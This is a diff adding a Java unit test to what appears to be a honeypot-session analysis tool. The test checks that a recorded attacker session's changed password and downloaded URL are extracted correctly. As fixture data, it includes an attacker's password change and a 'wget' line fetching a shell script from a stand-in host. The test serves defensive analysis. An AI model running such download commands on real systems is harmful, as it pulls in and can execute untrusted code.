@@ -2,6 +2,7 @@ package io.github.cowriekit.analysis;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import io.github.cowriekit.model.Command;
 import io.github.cowriekit.model.Download;
 import io.github.cowriekit.model.FileOrigin;
 import io.github.cowriekit.model.Session;
@@ -65,6 +66,22 @@ class PlaybookTest {
                 .isEqualTo(of("ls /; A=b cat y").verbKey());
         assertThat(of("id\nw")).isEqualTo(of("id", "w"));
         assertThat(of().sequenceKey()).isNull();
+    }
+
+    @Test
+    void takesWhatAPasswordProgramAskedForAsAWrittenCredential() {
+        Session session = Sessions.ran()
+                .commands(List.of(
+                        new Command(Sessions.START, "passwd", false, null),
+                        new Command(Sessions.START, "N3wP4ss!x", false, "passwd", Command.ANSWER),
+                        new Command(Sessions.START, "N3wP4ss!x", false, "passwd", Command.ANSWER),
+                        new Command(Sessions.START, "cat > /tmp/d", false, null),
+                        new Command(Sessions.START, "wget http://192.0.2.7/a.sh", false, "cat", Command.STDIN)))
+                .build();
+        Playbook playbook = of(session);
+
+        assertThat(playbook.writtenCredentials()).containsExactly("N3wP4ss!x");
+        assertThat(playbook.urls()).containsExactly("http://192.0.2.7/a.sh");
     }
 
     @Test
